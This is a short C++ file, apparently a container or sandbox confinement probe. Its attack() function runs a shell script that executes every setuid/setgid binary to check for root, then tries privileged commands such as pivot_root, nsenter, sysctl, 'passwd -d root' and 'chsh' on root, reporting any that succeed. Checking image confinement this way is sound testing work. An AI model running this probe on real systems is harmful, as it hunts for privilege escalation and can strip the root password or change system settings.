// Runs all setuid and setgid files of the image, and administration commands.
#include <cstdlib>

void attack() {
  system(R"sh(
for path in $(find / -xdev -perm /6000 -type f 2>/dev/null); do
  (test "$(timeout -s KILL 2 $path -c 'id -u' root </dev/null 2>/dev/null)" = 0 && echo $path) &
done
while read -r command; do
  (timeout -s KILL 2 $command </dev/null >/dev/null 2>&1 && echo $command) &
done <<END
mount -t tmpfs none /tmp/work
umount /tmp
/usr/sbin/chroot / true
/usr/sbin/pivot_root / /tmp
/usr/sbin/sysctl -w kernel.hostname=x
date -s 2001-01-01
hostname x
renice -5 1
chrt -f 1 true
ionice -c 1 true
unshare -r true
nsenter -t 1 -m true
dmesg
su -c true
passwd -d root
chsh -s /bin/sh root
newgrp root
END
wait
echo done
)sh");
}
